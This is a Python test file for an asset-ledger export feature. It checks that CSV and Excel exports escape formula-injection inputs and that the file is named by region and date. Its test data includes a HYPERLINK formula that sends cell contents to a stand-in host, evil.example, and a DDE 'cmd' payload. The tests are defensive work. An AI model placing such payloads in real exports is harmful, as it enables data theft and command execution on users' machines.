"""Exports are safe to open in Excel or WPS: text that a spreadsheet would run as a formula
is written as text, and reads back to the same value."""

import csv
import io

from openpyxl import load_workbook

from shared.spreadsheet import restore
from tests.funds.conftest import completed_project, county, county_fund, make_asset

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


async def test_the_asset_ledger_never_carries_a_live_formula(funds) -> None:
    fund = await county_fund(funds)
    project = await completed_project(funds, fund["id"])
    await make_asset(
        funds, project["id"], name=FORMULA, custodian="+1+cmd|' /C calc'!A0", location="@SUM(1)"
    )
    officer = county(funds)
    exported = await officer.get("/v1/exports/assets")
    assert exported.status_code == 200
    row = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))[1]
    assert row[1] == "'" + FORMULA
    assert row[9].startswith("'+")
    assert row[10] == "'@SUM(1)"
    assert restore(row[1]) == FORMULA
    xlsx = await officer.get("/v1/exports/assets", params={"format": "xlsx"})
    cells = list(load_workbook(io.BytesIO(xlsx.content)).active.iter_rows(values_only=True))[1]
    assert cells[1] == "'" + FORMULA  # a string cell, not a formula
    assert all(not (isinstance(c, str) and c.startswith(("=", "+", "@"))) for c in cells)


async def test_the_asset_ledger_is_named_by_region_and_day_with_a_frozen_header(funds) -> None:
    import io
    from urllib.parse import quote

    from openpyxl import load_workbook

    from shared import clock
    from shared.auth import Role

    officer = funds.as_(Role.county_officer, "522301000000")
    answer = await officer.get("/v1/exports/assets", params={"format": "xlsx"})
    assert answer.status_code == 200
    day = clock.today().isoformat()
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="522301000000_assets_{day}.xlsx"; '
        f"filename*=UTF-8''{quote(f'522301000000_资产台账_{day}.xlsx')}"
    )
    assert load_workbook(io.BytesIO(answer.content)).active.freeze_panes == "A2"
